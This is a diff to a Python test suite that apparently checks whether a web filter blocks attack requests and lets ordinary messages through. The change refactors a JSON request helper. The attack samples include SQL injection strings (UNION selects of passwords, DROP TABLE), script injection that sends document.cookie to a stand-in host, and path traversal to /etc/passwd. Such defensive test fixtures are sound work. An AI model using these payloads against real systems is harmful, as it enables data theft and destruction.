@@ -39,8 +39,8 @@ def _header(name: str, header: str, poison: str) -> Sample:
     return Sample(name, headers={header: poison})
 
 
-def _json(name: str, text: str, expected: frozenset[int] = BLOCKED) -> Sample:
-    body = json.dumps({"text": text}, ensure_ascii=False).encode()
+def _json(name: str, expected: frozenset[int] = BLOCKED, **fields: str) -> Sample:
+    body = json.dumps(fields, ensure_ascii=False).encode()
     return Sample(name, method="POST", headers={"Content-Type": "application/json"}, body=body, expected=expected)
 
 
@@ -48,10 +48,10 @@ ATTACKS = (
     _query("SQL injection: always true", "1' OR '1'='1' -- "),
     _query("SQL injection: union", "1 UNION ALL SELECT username, password FROM users--"),
     _query("SQL injection: stacked", "1; DROP TABLE users; --"),
-    _json("SQL injection in JSON", "1' UNION SELECT NULL, table_name FROM information_schema.tables -- "),
+    _json("SQL injection in JSON", note="1' UNION SELECT NULL, table_name FROM information_schema.tables -- "),
     _query("script injection: tag", "<script>alert(document.cookie)</script>"),
     _query("script injection: event", "<img src=x onerror=alert(1)>"),
-    _json("script injection in JSON", "<script>fetch('//x.invalid/'+document.cookie)</script>"),
+    _json("script injection in JSON", note="<script>fetch('//x.invalid/'+document.cookie)</script>"),
     _query("path traversal in a parameter", "../../../../etc/passwd"),
     Sample(
         "path traversal in the path", path="/api/%2e%2e/%2e%2e/%2e%2e/etc/passwd", expected=frozenset({400, 403, 404})
@@ -85,11 +85,9 @@ NORMAL = (
     Sample("usage", path="/api/usage", expected=OK),
     Sample("integrations", path="/api/integrations", expected=OK),
     Sample("export", path="/api/export", expected=OK),
-    _json("an English message", "Remind me at 17:30 to select the best from the list; drop by at 5 -- ok?", OK),
-    _json(
-        "a French message", "Rappelle-moi d'acheter du café (15 €) & du pain à 18h30 : c'est où, s'il te plaît ?", OK
-    ),
-    _json("a message with a link", "See https://example.com/a?b=c&d=e#f and tell me <3 \N{PARTY POPPER}", OK),
+    _json("an English message", OK, text="Remind me at 17:30 to select the best from the list; drop by at 5 -- ok?"),
+    _json("a French message", OK, text="Rappelle-moi d'acheter du café (15 €) & du pain à 18h30 : c'est où, déjà ?"),
+    _json("a message with a link", OK, text="See https://example.com/a?b=c&d=e#f and tell me <3 \N{PARTY POPPER}"),
 )
 TEXTS = (
     "Appelle maman à 18h, n'oublie pas l'anniversaire !",
